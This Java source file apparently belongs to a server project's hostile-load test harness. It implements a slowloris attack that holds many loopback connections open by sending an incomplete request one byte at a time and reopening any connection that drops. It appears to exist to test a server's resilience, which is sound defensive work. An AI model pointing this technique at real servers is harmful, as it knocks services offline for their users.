package io.waitingroom.hostile;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;

/**
 * Opens many connections that send a request byte by byte and never complete it. This attack is known as slowloris. If the
 * server closes a connection, a new one is opened.
 */
final class SlowConnections implements Attack.RunningAttack {
    private static final long BYTE_INTERVAL_NANOS = TimeUnit.MILLISECONDS.toNanos(500);
    /** The pause after each new connection. It limits the rate to 1,000 new connections a second. */
    private static final long OPEN_INTERVAL_NANOS = TimeUnit.MILLISECONDS.toNanos(1);

    private final InetSocketAddress server;
    private final Tally tally;
    private final int size;
    private final byte[] beginning;
    private final List<SocketChannel> connections = new ArrayList<>();
    private final ByteBuffer received = ByteBuffer.allocate(4096);

    SlowConnections(int port, Tally tally, int size, String beginning) {
        server = new InetSocketAddress(InetAddress.getLoopbackAddress(), port);
        this.tally = tally;
        this.size = size;
        this.beginning = Requests.bytes(beginning);
    }

    @Override
    public void run(long end) {
        while (System.nanoTime() < end) {
            var nextRound = System.nanoTime() + BYTE_INTERVAL_NANOS;
            connections.removeIf(connection -> !sendMore(connection));
            while (connections.size() < size && System.nanoTime() < end) {
                open();
                LockSupport.parkNanos(OPEN_INTERVAL_NANOS);
            }
            LockSupport.parkNanos(Math.min(nextRound, end) - System.nanoTime());
        }
    }

    private void open() {
        try {
            var connection = SocketChannel.open(server);
            connection.write(ByteBuffer.wrap(beginning));
            connection.configureBlocking(false);
            connections.add(connection);
            tally.sent(beginning.length);
        } catch (IOException e) {
            tally.closed();
        }
    }

    private boolean sendMore(SocketChannel connection) {
        try {
            received.clear();
            var read = connection.read(received);
            if (read == 0) {
                tally.sentMore(connection.write(ByteBuffer.wrap(new byte[] {'a'})));
                return true;
            }
            if (read > 0) {
                var line = new String(received.array(), 0, read, StandardCharsets.ISO_8859_1);
                tally.answered(Integer.parseInt(line.split(" ", 3)[1]));
            } else {
                tally.closed();
            }
        } catch (IOException e) {
            tally.closed();
        }
        close(connection);
        return false;
    }

    private static void close(SocketChannel connection) {
        try {
            connection.close();
        } catch (IOException e) {
            // The connection is unusable anyway.
        }
    }

    @Override
    public void close() {
        connections.forEach(SlowConnections::close);
    }
}
